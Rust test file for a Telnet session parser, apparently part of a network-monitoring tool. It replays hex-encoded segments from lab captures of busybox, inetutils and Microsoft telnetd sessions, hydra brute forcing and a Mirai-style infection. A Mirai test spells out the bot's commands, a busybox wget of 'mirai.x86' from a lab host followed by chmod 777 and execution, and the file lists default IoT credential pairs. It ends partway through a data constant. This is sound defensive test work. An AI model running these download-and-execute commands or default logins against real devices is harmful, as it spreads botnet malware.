//! Tests on real Telnet dialogues.
//!
//! The byte vectors are the TCP segments of real sessions as printed by
//! `tshark -q -z follow,tcp,raw,N` (C = client to server, S = server to
//! client), from `/work/shared/lab-sample/capture.pcap` (busybox telnetd,
//! inetutils telnetd, hydra, Mirai-style commands; see its labels.csv) and
//! from `pcaps/telnet/telnet-ms-telnet-logins-in-mixed-traffic.pcap`
//! (Microsoft Telnet Service; MANIFEST.tsv: 4 logins, user "administrator"
//! via NEW-ENVIRON USER, password present). Expected outcomes are what the
//! servers answered ("Login incorrect", a shell prompt); expected command
//! counts are tshark's `telnet.cmd` counts for the same segments. The three
//! small Telnet pcaps are read from the shared corpus and checked against
//! MANIFEST.tsv's `iac_commands`.

use std::collections::BTreeMap;

use crate::capture::Timestamp;
use crate::flow::Direction;

use crate::proto::credential::digest;

use super::events::{AnomalyKind, LoginAttempt, LoginOutcome, TelnetEvent, UserSource};
use super::parser::{TelnetOption, TokenError, Verb};
use super::session::tests::{anomalies, commands, logins, typed};
use super::session::{TelnetLimits, TelnetSession};
use super::subneg::{SubnegDetail, TerminalTypeDetail};

const C: Direction = Direction::ToServer;
const S: Direction = Direction::ToClient;

fn unhex(hex: &str) -> Vec<u8> {
    (0..hex.len() / 2)
        .filter_map(|i| hex.get(2 * i..2 * i + 2))
        .filter_map(|pair| u8::from_str_radix(pair, 16).ok())
        .collect()
}

fn segments(vector: &[(Direction, &str)]) -> Vec<(Direction, Vec<u8>)> {
    vector.iter().map(|(d, h)| (*d, unhex(h))).collect()
}

/// One `on_data` call per segment (segment i at Timestamp(i)), then close.
fn replay(vector: &[(Direction, &str)]) -> Vec<TelnetEvent> {
    let mut session = TelnetSession::new(TelnetLimits::default());
    let mut out = Vec::new();
    for (i, (dir, bytes)) in segments(vector).iter().enumerate() {
        session.on_data(Timestamp(i as i64), *dir, bytes, &mut out);
    }
    session.on_close(Timestamp(i64::MAX), &mut out);
    out
}

/// Every segment fed one byte per call.
fn replay_bytewise(vector: &[(Direction, &str)]) -> Vec<TelnetEvent> {
    let mut session = TelnetSession::new(TelnetLimits::default());
    let mut out = Vec::new();
    for (i, (dir, bytes)) in segments(vector).iter().enumerate() {
        for byte in bytes {
            session.on_data(
                Timestamp(i as i64),
                *dir,
                std::slice::from_ref(byte),
                &mut out,
            );
        }
    }
    session.on_close(Timestamp(i64::MAX), &mut out);
    out
}

/// tshark-style `telnet.cmd` counts: the command byte of every negotiation
/// and single command, SB (250) and SE (240) for every sub-negotiation.
fn iac_command_counts(events: &[TelnetEvent]) -> BTreeMap<u8, usize> {
    let mut counts = BTreeMap::new();
    for event in events {
        match event {
            TelnetEvent::Negotiation { verb, .. } => *counts.entry(verb.byte()).or_default() += 1,
            TelnetEvent::Command { cmd, .. } => *counts.entry(cmd.byte()).or_default() += 1,
            TelnetEvent::Subnegotiation { .. } => {
                *counts.entry(250).or_default() += 1;
                *counts.entry(240).or_default() += 1;
            }
            _ => {}
        }
    }
    counts
}

/// Events other than Data (whose lengths are per call), and the data total.
fn split_data(events: &[TelnetEvent]) -> (Vec<TelnetEvent>, usize) {
    let mut total = 0;
    let mut rest = Vec::new();
    for event in events {
        match event {
            TelnetEvent::Data { len, .. } => total += len,
            other => rest.push(other.clone()),
        }
    }
    (rest, total)
}

fn assert_no_secret(events: &[TelnetEvent], secrets: &[&str]) {
    let debug = format!("{events:?}");
    for secret in secrets {
        assert!(
            !debug.contains(secret),
            "password {secret:?} in Debug output"
        );
    }
}

#[test]
fn busybox_mirai_login_success_and_commands() {
    // Server answered root/xc3511 with the ash banner and "ipcam-25# ESC[6n".
    let events = replay(LAB_MIRAI_SUCCESS);
    assert_eq!(
        logins(&events),
        vec![typed("root", Some("xc3511"), LoginOutcome::Success, 2)]
    );
    assert_eq!(
        commands(&events),
        vec![
            "enable",
            "system",
            "shell",
            "sh",
            "/bin/busybox MIRAI",
            "/bin/busybox ps | /bin/busybox head -5",
            "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > .nippon; /bin/busybox cat .nippon; /bin/busybox rm .nippon",
            "/bin/busybox wget http://10.77.0.66/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
            "./dvrHelper telnet.x86",
            "/bin/busybox MIRAI",
            "exit",
            "exit",
        ]
    );
    assert_eq!(anomalies(&events), vec![]);
    // tshark telnet.cmd for tcp.stream 11412: 2 x WILL, 2 x DO.
    assert_eq!(
        iac_command_counts(&events),
        BTreeMap::from([(251, 2), (253, 2)])
    );
    assert_no_secret(&events, &["xc3511"]);
}

#[test]
fn busybox_login_incorrect() {
    let events = replay(LAB_MIRAI_FAILURE);
    assert_eq!(
        logins(&events),
        vec![typed("root", Some("vizxv"), LoginOutcome::Failure, 3)]
    );
    assert_eq!(commands(&events), Vec::<String>::new());
    assert_eq!(
        iac_command_counts(&events),
        BTreeMap::from([(251, 2), (253, 2)])
    );
    assert_no_secret(&events, &["vizxv"]);
}

#[test]
fn hydra_brute_force_three_failures() {
    // admin/123456, admin/12345, root/password: each "Login incorrect"; the
    // last "user" is typed ahead with no prompt before the capture ends.
    let events = replay(LAB_HYDRA);
    let got: Vec<(Option<String>, usize, LoginOutcome)> = logins(&events)
        .into_iter()
        .map(|a| (a.user, a.password_len, a.outcome))
        .collect();
    assert_eq!(
        got,
        vec![
            (Some("admin".into()), 6, LoginOutcome::Failure),
            (Some("admin".into()), 5, LoginOutcome::Failure),
            (Some("root".into()), 8, LoginOutcome::Failure),
        ]
    );
    // Each attempt carries the digest of the pair hydra sent.
    let credentials: Vec<_> = logins(&events).iter().map(|a| a.credential).collect();
    assert_eq!(
        credentials,
        vec![
            Some(digest("admin", "123456")),
            Some(digest("admin", "12345")),
            Some(digest("root", "password")),
        ]
    );
    assert_eq!(anomalies(&events), vec![]);
    // tshark: 3 WILL, 2 WONT, 2 DO, 2 DONT.
    assert_eq!(
        iac_command_counts(&events),
        BTreeMap::from([(251, 3), (252, 2), (253, 2), (254, 2)])
    );
    // The third password, "password", is also a field name of LoginAttempt.
    assert_no_secret(&events, &["123456", "12345"]);
}

#[test]
fn inetutils_pam_linemode_success() {
    // Client in LINEMODE sends "admin\n"; server: MOTD, "Last login: ...", "$ ".
    let events = replay(LAB_INETUTILS_SUCCESS);
    assert_eq!(
        logins(&events),
        vec![typed(
            "admin",
            Some("Adm1n!2024"),
            LoginOutcome::Success,
            11
        )]
    );
    assert_eq!(
        commands(&events),
        vec!["uptime", "ip -br addr show eth0", "exit"]
    );
    assert_eq!(anomalies(&events), vec![]);
    // tshark telnet.cmd for tcp.stream 11361.
    assert_eq!(
        iac_command_counts(&events),
        BTreeMap::from([
            (240, 11),
            (250, 11),
            (251, 12),
            (252, 4),
            (253, 15),
            (254, 1)
        ])
    );
    assert!(events.contains(&TelnetEvent::Subnegotiation {
        dir: C,
        option: TelnetOption::TerminalType,
        detail: SubnegDetail::TerminalType(TerminalTypeDetail::Is {
            name: "XTERM".into()
        })
    }));
    assert_no_secret(&events, &["Adm1n!2024"]);
}

#[test]
fn inetutils_failure_then_unanswered_attempt() {
    // root/vizxv -> "Login incorrect"; then "exit" typed at the login prompt,
    // "Password:" asked, connection closed: outcome unknown, no password.
    let events = replay(LAB_INETUTILS_FAILURE);
    assert_eq!(
        logins(&events),
        vec![
            typed("root", Some("vizxv"), LoginOutcome::Failure, 9),
            typed("exit", None, LoginOutcome::Unknown, 16),
        ]
    );
    assert!(events.contains(&TelnetEvent::Subnegotiation {
        dir: C,
        option: TelnetOption::Naws,
        detail: SubnegDetail::WindowSize {
            width: 80,
            height: 24
        }
    }));
    assert_eq!(
        iac_command_counts(&events),
        BTreeMap::from([(240, 3), (250, 3), (251, 7), (252, 9), (253, 13), (254, 3)])
    );
}

#[test]
fn microsoft_telnet_logins() {
    // MANIFEST: 4 logins as "administrator" from NEW-ENVIRON USER, password
    // present; the server answered each with "C:\Users\Administrator>".
    let netsh = "netsh interface ip set dns \"Local Area Connection\" static 192.168.122.2 primary";
    for (vector, first_command, password_at) in [
        (MS_STREAM_14, "date", 6),
        (MS_STREAM_24, netsh, 6),
        (MS_STREAM_71, "date", 6),
        (MS_STREAM_84, netsh, 7),
    ] {
        let events = replay(vector);
        assert_eq!(
            logins(&events),
            vec![LoginAttempt {
                user: Some("administrator".into()),
                user_source: UserSource::EnvironUser,
                has_password: true,
                password_len: 7,
                // NEW-ENVIRON USER "administrator", password line "penguin".
                credential: Some(digest("administrator", "penguin")),
                outcome: LoginOutcome::Success,
                started: Timestamp(password_at),
            }]
        );
        assert_eq!(
            commands(&events).first().map(String::as_str),
            Some(first_command)
        );
        assert_eq!(anomalies(&events), vec![]);
        // tshark telnet.cmd over the same 16 segments.
        assert_eq!(
            iac_command_counts(&events),
            BTreeMap::from([(240, 9), (250, 9), (251, 10), (252, 2), (253, 9), (254, 3)])
        );
        assert_no_secret(&events, &["penguin"]);
    }
}

/// The banners of a session.
fn banners(events: &[TelnetEvent]) -> Vec<&str> {
    events
        .iter()
        .filter_map(|e| match e {
            TelnetEvent::Banner { text } => Some(text.as_str()),
            _ => None,
        })
        .collect()
}

#[test]
fn banners_are_what_the_servers_printed_before_the_first_prompt() {
    // tshark -e telnet.data of the server's segments: the busybox telnetd of
    // cam1 sends "\r\r\n\r\r\n\rIPCAM-2000 (build 4.2.0)\r\r\n\ripcam-25
    // login: " (streams 11412, 11407, 14465); inetutils telnetd on rtr1
    // sends "rtr-ax3000 login: " and nothing before it (11361, 11443); the
    // Microsoft Telnet Service "Welcome to Microsoft Telnet Service \r\n"
    // then "\n\rpassword: ". The "Microsoft Telnet Server." box it prints
    // after the login is not a banner.
    let ipcam = vec!["IPCAM-2000 (build 4.2.0)"];
    let microsoft = vec!["Welcome to Microsoft Telnet Service"];
    for (name, vector, expected) in [
        ("11412", LAB_MIRAI_SUCCESS, ipcam.clone()),
        ("11407", LAB_MIRAI_FAILURE, ipcam.clone()),
        ("14465", LAB_HYDRA, ipcam),
        ("11361", LAB_INETUTILS_SUCCESS, vec![]),
        ("11443", LAB_INETUTILS_FAILURE, vec![]),
        ("ms 14", MS_STREAM_14, microsoft.clone()),
        ("ms 24", MS_STREAM_24, microsoft.clone()),
        ("ms 71", MS_STREAM_71, microsoft.clone()),
        ("ms 84", MS_STREAM_84, microsoft),
    ] {
        let events = replay(vector);
        assert_eq!(banners(&events), expected, "stream {name}");
        assert_eq!(
            banners(&replay_bytewise(vector)),
            expected,
            "stream {name}, byte by byte"
        );
    }
}

#[test]
fn byte_at_a_time_equals_segment_feeding() {
    for vector in [
        LAB_MIRAI_SUCCESS,
        LAB_MIRAI_FAILURE,
        LAB_HYDRA,
        LAB_INETUTILS_SUCCESS,
        LAB_INETUTILS_FAILURE,
        MS_STREAM_14,
        MS_STREAM_24,
        MS_STREAM_71,
        MS_STREAM_84,
    ] {
        let (whole, whole_data) = split_data(&replay(vector));
        let (bytes, bytes_data) = split_data(&replay_bytewise(vector));
        // Prompts are judged at the end of each call, so outcomes may be
        // decided later but must be the same.
        assert_eq!(logins(&bytes), logins(&whole));
        assert_eq!(commands(&bytes), commands(&whole));
        assert_eq!(whole_data, bytes_data);
        let not_login = |e: &&TelnetEvent| !matches!(e, TelnetEvent::LoginAttempt(_));
        assert_eq!(
            whole.iter().filter(not_login).collect::<Vec<_>>(),
            bytes.iter().filter(not_login).collect::<Vec<_>>()
        );
    }
}

/// TCP payloads of a classic little-endian pcap with Ethernet (1) or raw
/// IPv4 (228) frames: (source port, destination port, payload).
fn tcp_payloads(file: &[u8]) -> Vec<(u16, u16, Vec<u8>)> {
    let u32_at = |at: usize| {
        file.get(at..at + 4)
            .and_then(|b| b.try_into().ok())
            .map(u32::from_le_bytes)
    };
    let Some(link) = u32_at(20) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    let mut at = 24;
    while let Some(caplen) = u32_at(at + 8) {
        let start = at + 16;
        let Some(frame) = file.get(start..start + caplen as usize) else {
            break;
        };
        at = start + caplen as usize;
        let ip = match link {
            1 => frame.get(14..),
            228 => Some(frame),
            _ => None,
        };
        let Some(ip) = ip else { continue };
        let ihl = usize::from(ip.first().copied().unwrap_or(0) & 0x0f) * 4;
        let total = ip
            .get(2..4)
            .map_or(0, |b| usize::from(u16::from_be_bytes([b[0], b[1]])));
        if ip.get(9) != Some(&6) {
            continue;
        }
        let Some(tcp) = ip.get(ihl..total.min(ip.len())) else {
            continue;
        };
        let off = usize::from(tcp.get(12).copied().unwrap_or(0) >> 4) * 4;
        let port = |i: usize| {
            tcp.get(i..i + 2)
                .map_or(0, |b| u16::from_be_bytes([b[0], b[1]]))
        };
        if let Some(payload) = tcp.get(off..).filter(|p| !p.is_empty()) {
            out.push((port(0), port(2), payload.to_vec()));
        }
    }
    out
}

fn replay_pcap(name: &str, server_port: u16) -> Vec<TelnetEvent> {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/pcaps/telnet/");
    let file = std::fs::read(format!("{path}{name}")).unwrap_or_default();
    let payloads = tcp_payloads(&file);
    assert!(!payloads.is_empty(), "no TCP payload read from {name}");
    let mut session = TelnetSession::new(TelnetLimits::default());
    let mut out = Vec::new();
    for (src, _dst, payload) in payloads {
        let dir = if src == server_port { S } else { C };
        session.on_data(Timestamp(0), dir, &payload, &mut out);
    }
    session.on_close(Timestamp(0), &mut out);
    out
}

#[test]
fn tcpdump_malformed_iac_frame_matches_tshark_counts() {
    // MANIFEST: telnet.iac_commands 9657; tshark's telnet.cmd values are
    // 2430 x DONT (254), 4797 x SB (250), 2430 x SE (240).
    let events = replay_pcap("telnet-malformed-iac-65535-byte-frame.pcap", 23);
    let negotiations = events
        .iter()
        .filter(|e| {
            matches!(
                e,
                TelnetEvent::Negotiation {
                    verb: Verb::Dont,
                    ..
                }
            )
        })
        .count();
    let subnegs = events
        .iter()
        .filter(|e| {
            matches!(
                e,
                TelnetEvent::Subnegotiation {
                    option: TelnetOption::TerminalType,
                    detail: SubnegDetail::TerminalType(TerminalTypeDetail::Send),
                    ..
                }
            )
        })
        .count();
    let kinds = anomalies(&events);
    let interrupted = kinds
        .iter()
        .filter(|k| matches!(k, AnomalyKind::Token(TokenError::SubnegInterrupted { .. })))
        .count();
    let unterminated = kinds
        .iter()
        .filter(|k| matches!(k, AnomalyKind::Token(TokenError::SubnegUnterminated { .. })))
        .count();
    let se_alone = kinds
        .iter()
        .filter(|k| matches!(k, AnomalyKind::Token(TokenError::SeWithoutSb)))
        .count();
    assert_eq!(negotiations, 2430);
    assert_eq!(subnegs + interrupted + unterminated, 4797);
    assert_eq!(subnegs + se_alone, 2430);
    assert_eq!(kinds.len(), interrupted + unterminated + se_alone);
    assert_eq!(
        negotiations + 2 * subnegs + interrupted + unterminated + se_alone,
        9657
    );
}

#[test]
fn zeek_authentication_reply_without_modifiers() {
    // ff fa 25 02 02 ff f0 on port 21; MANIFEST iac_commands 2 (SB, SE).
    let events = replay_pcap("telnet-auth-option-on-port21-rawip.pcap", 21);
    assert_eq!(
        iac_command_counts(&events),
        BTreeMap::from([(240, 1), (250, 1)])
    );
    assert_eq!(
        anomalies(&events),
        vec![AnomalyKind::SubnegMalformed {
            option: TelnetOption::Authentication,
            error: super::subneg::SubnegError::TooShort { min: 3, got: 2 }
        }]
    );
}

#[test]
fn pcapplusplus_command_after_data() {
    // ff ff ff fa 17 00: IAC IAC (data 255), then an SB SEND-LOCATION that the
    // frame cuts off. MANIFEST: frames_with_data 1, iac_commands 1.
    let events = replay_pcap("telnet-command-after-data-single-frame.pcap", 23);
    assert_eq!(
        events,
        vec![
            TelnetEvent::Data { dir: S, len: 1 },
            TelnetEvent::Anomaly(super::events::TelnetAnomaly {
                dir: S,
                kind: AnomalyKind::Token(TokenError::SubnegUnterminated {
                    option: TelnetOption::SendLocation,
                    len: 1
                })
            }),
        ]
    );
}

/// lab-sample/capture.pcap tcp.stream 11412 (10.77.0.66 -> cam1 busybox telnetd, all segments).
const LAB_MIRAI_SUCCESS: &[(Direction, &str)] = &[
    (S, "fffd01fffd1ffffb01fffb03"),
    (
        S,
        concat!(
            "0d0d0a0d0d0a0d495043414d2d3230303020286275696c6420342e322e30290d0d0a0d697063616d",
            "2d3235206c6f67696e3a20",
        ),
    ),
    (C, "726f6f740d0a"),
    (S, "726f6f740d0a"),
    (S, "50617373776f72643a20"),
    (C, "7863333531310d0a"),
    (S, "0d0a"),
    (S, "0d0a"),
    (
        S,
        concat!(
            "0d0a42757379426f782076312e33352e30202844656269616e20313a312e33352e302d342b646562",
            "313275312b623129206275696c742d696e207368656c6c2028617368290d0a456e74657220276865",
            "6c702720666f722061206c697374206f66206275696c742d696e20636f6d6d616e64732e0d0a0d0a",
            "697063616d2d323523201b5b366e",
        ),
    ),
    (C, "656e61626c650d0a"),
    (S, "656e61626c650d0a"),
    (S, "2d73683a20"),
    (S, "656e61626c653a206e6f7420666f756e64"),
    (S, "0d0a697063616d2d323523201b5b366e"),
    (C, "73797374656d0d0a"),
    (S, "73797374656d0d0a"),
    (
        S,
        "2d73683a2073797374656d3a206e6f7420666f756e640d0a697063616d2d323523201b5b366e",
    ),
    (C, "7368656c6c0d0a"),
    (S, "7368656c6c0d0a"),
    (S, "2d73683a20"),
    (S, "7368656c6c3a206e6f7420666f756e64"),
    (S, "0d0a"),
    (S, "697063616d2d323523201b5b366e"),
    (C, "73680d0a"),
    (S, "73680d0a"),
    (
        S,
        concat!(
            "0d0a0d0a42757379426f782076312e33352e30202844656269616e20313a312e33352e302d342b64",
            "6562313275312b623129206275696c742d696e207368656c6c2028617368290d0a456e7465722027",
            "68656c702720666f722061206c697374206f66206275696c742d696e20636f6d6d616e64732e0d0a",
            "0d0a697063616d2d323523201b5b366e",
        ),
    ),
    (C, "2f62696e2f62757379626f78204d495241490d0a"),
    (S, "2f62696e2f62757379626f78204d495241490d0a"),
    (S, "4d49524149"),
    (
        S,
        "3a206170706c6574206e6f7420666f756e640d0a697063616d2d323523201b5b366e",
    ),
    (
        C,
        "2f62696e2f62757379626f78207073207c202f62696e2f62757379626f782068656164202d350d0a",
    ),
    (
        S,
        "2f62696e2f62757379626f78207073207c202f62696e2f62757379626f782068656164202d350d0a",
    ),
    (S, "504944202020555345522020202020434f4d4d414e440d0a"),
    (
        S,
        concat!(
            "2020202031203020202020202020202f62696e2f62757379626f782074656c6e657464202d46202d",
            "622031302e37372e302e32353a3233202d6c202f62696e2f6c6f67696e202d66202f6574632f6973",
            "7375650d0a",
        ),
    ),
    (S, "2020203136203020202020202020202f62696e2f6c6f67696e0d0a"),
    (S, "202020313720726f6f7420202020202d73680d0a"),
    (S, "202020313820726f6f74202020202073680d0a"),
    (S, "697063616d2d323523201b5b366e"),
    (
        C,
        concat!(
            "2f62696e2f62757379626f78206563686f202d6520275c7836625c7836315c7836645c7836392720",
            "3e202e6e6970706f6e3b202f62696e2f62757379626f7820636174202e6e6970706f6e3b202f6269",
            "6e2f62757379626f7820726d202e6e6970706f6e0d0a",
        ),
    ),
    (
        S,
        concat!(
            "2f62696e2f62757379626f78206563686f202d6520275c7836625c7836315c7836645c7836392720",
            "3e202e6e6970706f6e3b202f62696e2f62757379626f7820636174202e6e0d0d0a6970706f6e3b20",
            "2f62696e2f62757379626f7820726d202e6e6970706f6e0d0a",
        ),
    ),
    (S, "6b616d690d0a"),
    (S, "697063616d2d323523201b5b366e"),
    (
        C,
        concat!(
            "2f62696e2f62757379626f78207767657420687474703a2f2f31302e37372e302e36362f62696e73",
            "2f6d697261692e783836202d4f202d203e2064767248656c7065723b202f62696e2f62757379626f",
            "782063686d6f64203737372064767248656c7065720d0a",
        ),
    ),
    (
        S,
        concat!(
            "2f62696e2f62757379626f78207767657420687474703a2f2f31302e37372e302e36362f62696e73",
            "2f6d697261692e783836202d4f202d203e2064767248656c7065723b202f0d0d0a62696e2f627573",
            "79626f782063686d6f64203737372064767248656c7065720d0a",
        ),
    ),
    (
        S,
        concat!(
            "436f6e6e656374696e6720746f2031302e37372e302e3636202831302e37372e302e36363a383029",
            "0d0a",
        ),
    ),
    (
        S,
        concat!(
            "77726974696e6720746f207374646f75740d0a0d2d20202020202020202020202020202020202020",
            "2031303025207c2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a2a7c",
            "2020203131392020303a30303a3030204554410d0a7772697474656e20746f207374646f75740d0a",
        ),
    ),
    (S, "697063616d2d323523201b5b366e"),
    (C, "2e2f64767248656c7065722074656c6e65742e7838360d0a"),
    (S, "2e2f64767248656c7065722074656c6e65742e7838360d0a"),
    (
        S,
        concat!(
            "5b626f745d2064767248656c706572207374617274656420286c6162207374616e642d696e2c2064",
            "6f6573206e6f7468696e67290d0a",
        ),
    ),
    (S, "697063616d2d323523201b5b366e"),
    (C, "2f62696e2f62757379626f78204d495241490d0a"),
    (S, "2f62696e2f62757379626f78204d495241490d0a"),
    (S, "4d49524149"),
    (S, "3a206170706c6574206e6f7420666f756e640d0a"),
    (S, "697063616d2d323523201b5b366e"),
    (C, "657869740d0a"),
    (S, "657869740d0a"),
    (S, "697063616d2d323523201b5b366e"),
    (C, "657869740d0a"),
    (S, "657869740d0a"),
];

/// lab-sample/capture.pcap tcp.stream 11407 (busybox telnetd, root/vizxv, all segments).
const LAB_MIRAI_FAILURE: &[(Direction, &str)] = &[
    (S, "fffd01fffd1ffffb01fffb03"),
    (
        S,
        "0d0d0a0d0d0a0d495043414d2d3230303020286275696c6420342e322e30290d0d0a0d",
    ),
    (S, "697063616d2d3235206c6f67696e3a20"),
    (C, "726f6f740d0a"),
    (S, "726f6f740d0a50617373776f72643a20"),
    (C, "76697a78760d0a"),
    (S, "0d0a"),
    (
        S,
        "4c6f67696e20696e636f72726563740d0a697063616d2d3235206c6f67696e3a20",
    ),
];

/// lab-sample/capture.pcap tcp.stream 14465 (hydra against busybox telnetd, all segments).
const LAB_HYDRA: &[(Direction, &str)] = &[
    (S, "fffd01fffd1ffffb01fffb03"),
    (
        S,
        concat!(
            "0d0d0a0d0d0a0d495043414d2d3230303020286275696c6420342e322e30290d0d0a0d697063616d",
            "2d3235206c6f67696e3a20",
        ),
    ),
    (C, "fffb22"),
    (C, "fffc01"),
    (C, "fffc1f"),
    (C, "fffe01"),
    (C, "fffe03"),
    (C, "61646d696e0d00"),
    (S, "61646d696e0d0a"),
    (S, "50617373776f72643a20"),
    (C, "3132333435360d00"),
    (S, "0d0a"),
    (S, "4c6f67696e20696e636f72726563740d0a"),
    (S, "697063616d2d3235206c6f67696e3a20"),
    (C, "0d00"),
    (S, "0d0a"),
    (S, "697063616d2d3235206c6f67696e3a20"),
    (C, "61646d696e0d00"),
    (S, "61646d696e0d0a"),
    (S, "50617373776f72643a20"),
    (C, "31323334350d00"),
    (S, "0d0a"),
    (
        S,
        "4c6f67696e20696e636f72726563740d0a697063616d2d3235206c6f67696e3a20",
    ),
    (C, "0d00"),
    (S, "0d0a"),
    (S, "697063616d2d3235206c6f67696e3a20"),
    (C, "726f6f740d00"),
    (S, "726f6f740d0a"),
    (S, "50617373776f72643a20"),
    (C, "70617373776f72640d00"),
    (S, "0d0a"),
    (S, "4c6f67696e20696e636f72726563740d0a"),
    (C, "757365720d00"),
];

/// lab-sample/capture.pcap tcp.stream 11361 (ops -> rtr1 inetutils telnetd + PAM, linemode client, all segments).
const LAB_INETUTILS_SUCCESS: &[(Direction, &str)] = &[
    (S, "fffb25fffb26fffd18fffd20fffd23fffd27fffd24"),
    (C, "fffd25fffd26fffa2601fff0fffb18fffb20fffc23fffb27fffc24"),
    (S, "fffa2001fff0fffa2701fff0fffa1801fff0"),
    (C, "fffa2000302c30fff0fffa2700fff0fffa1800585445524dfff0"),
    (S, "fffb03fffd01fffd22fffd1ffffb05fffd21"),
    (
        C,
        concat!(
            "fffd03fffc01fffb22fffa22030100000300000400000500000700000800000900000a00000b0000",
            "0c00000d00000e00000f0000100000110000120000fff0fffb1ffffd05fffb21",
        ),
    ),
    (S, "fffa220103fff000"),
    (C, "fffa220107fff0"),
    (S, "fffa2103fff000fffb01fffd00fffe22"),
    (C, "fffd01fffb00fffc22"),
    (S, "7274722d617833303030206c6f67696e3a20"),
    (C, "61646d696e0a"),
    (S, "61646d696e0d0a50617373776f72643a20"),
    (C, "41646d316e21323032340a"),
    (S, "0d0a"),
    (S, "0d0a"),
    (
        S,
        concat!(
            "5254522d415833303030206669726d7761726520332e302e34202d2d20617574686f726973656420",
            "616363657373206f6e6c790d0a0d0a",
        ),
    ),
    (
        S,
        concat!(
            "4c617374206c6f67696e3a204d6f6e204e6f762032332031343a32393a3133205554432032303236",
            "2066726f6d2031302e37372e302e33206f6e207074732f300d0a",
        ),
    ),
    (S, "2420"),
    (C, "757074696d650a"),
    (
        S,
        concat!(
            "757074696d650d0a2031343a33303a3333207570203439206d696e2c20203120757365722c20206c",
            "6f616420617665726167653a20332e33372c20342e31372c20352e32360d0a",
        ),
    ),
    (S, "2420"),
    (C, "6970202d627220616464722073686f7720657468300a"),
    (S, "6970202d627220616464722073686f7720657468300d0a"),
    (
        S,
        "6574683040696631322020202020202020555020202020202020202020202020",
    ),
    (S, "31302e37372e302e32372f3234200d0a"),
    (S, "2420"),
    (C, "657869740a"),
    (S, "657869740d0a"),
];

/// lab-sample/capture.pcap tcp.stream 11443 (cam1 busybox telnet client -> rtr1 inetutils telnetd, all segments).
const LAB_INETUTILS_FAILURE: &[(Direction, &str)] = &[
    (S, "fffb25fffb26fffd18fffd20fffd23fffd27fffd24"),
    (C, "fffe25fffe26fffb18fffc20fffc23fffc27fffc24"),
    (S, "fffa1801fff0"),
    (C, "fffa1800787465726dfff0"),
    (S, "fffb03fffd01fffd22fffd1ffffb05fffd21"),
    (C, "fffd03fffc01fffc22fffb1ffffa1f00500018fff0fffe05fffc21"),
    (S, "fffb01fffd06fffd00"),
    (C, "fffd01fffc06fffc00"),
    (S, "7274722d617833303030206c6f67696e3a20"),
    (C, "726f6f740d0a"),
    (S, "726f6f740d0a"),
    (S, "50617373776f72643a20"),
    (C, "76697a78760d0a"),
    (S, "0d0a"),
    (S, "0d0a4c6f67696e20696e636f72726563740d0a"),
    (S, "7274722d617833303030206c6f67696e3a20"),
    (C, "657869740d0a"),
    (S, "657869740d0a50617373776f72643a20"),
];

/// telnet-ms-telnet-logins-in-mixed-traffic.pcap tcp.stream 14, first 16 segments.
const MS_STREAM_14: &[(Direction, &str)] = &[
    (C, "fffd03fffb18fffb1ffffb20fffb21fffb22fffb27fffd05"),
    (S, "fffd25fffb01fffb03fffd27fffd1ffffd00fffb00"),
    (C, "fffc25fffd01fffa1f00500018fff0fffb00fffd00"),
    (
        S,
        concat!(
            "fffd18fffe20fffe21fffe22fffa2701fff0fffa270103534655544c4e5456455203534655544c4e",
            "544d4f4445fff0fffc0557656c636f6d6520746f204d6963726f736f66742054656c6e6574205365",
            "7276696365200d0a",
        ),
    ),
    (
        C,
        concat!(
            "fffa270000555345520161646d696e6973747261746f72fff0fffa270003534655544c4e54564552",
            "03534655544c4e544d4f4445fff0",
        ),
    ),
    (S, "0a0d70617373776f72643a20"),
    (C, "70656e6775696e0d"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (C, "0a"),
    (
        S,
        concat!(
            "0d0a0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d0d0a4d6963726f736f667420",
            "54656c6e6574205365727665722e0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "0d0a433a5c55736572735c41646d696e6973747261746f723e",
        ),
    ),
    (S, "0a"),
    (C, "646174650d0a"),
    (
        S,
        concat!(
            "646174650d0a5468652063757272656e7420646174652069733a205468752030322f31362f323031",
            "32200d0a456e74657220746865206e657720646174653a20286d6d2d64642d79792920",
        ),
    ),
];

/// telnet-ms-telnet-logins-in-mixed-traffic.pcap tcp.stream 24, first 16 segments.
const MS_STREAM_24: &[(Direction, &str)] = &[
    (C, "fffd03fffb18fffb1ffffb20fffb21fffb22fffb27fffd05"),
    (S, "fffd25fffb01fffb03fffd27fffd1ffffd00fffb00"),
    (C, "fffc25fffd01fffa1f00500018fff0fffb00fffd00"),
    (
        S,
        concat!(
            "fffd18fffe20fffe21fffe22fffa2701fff0fffa270103534655544c4e5456455203534655544c4e",
            "544d4f4445fff0fffc0557656c636f6d6520746f204d6963726f736f66742054656c6e6574205365",
            "7276696365200d0a",
        ),
    ),
    (
        C,
        concat!(
            "fffa270000555345520161646d696e6973747261746f72fff0fffa270003534655544c4e54564552",
            "03534655544c4e544d4f4445fff0",
        ),
    ),
    (S, "0a0d70617373776f72643a20"),
    (C, "70656e6775696e0d"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (S, "fffa1801fff0"),
    (C, "fffa1800585445524dfff0"),
    (C, "0a"),
    (
        S,
        concat!(
            "0a0d0a0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
            "3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d0d0a4d6963726f736f6674",
            "2054656c6e6574205365727665722e0d0a2a3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d3d",
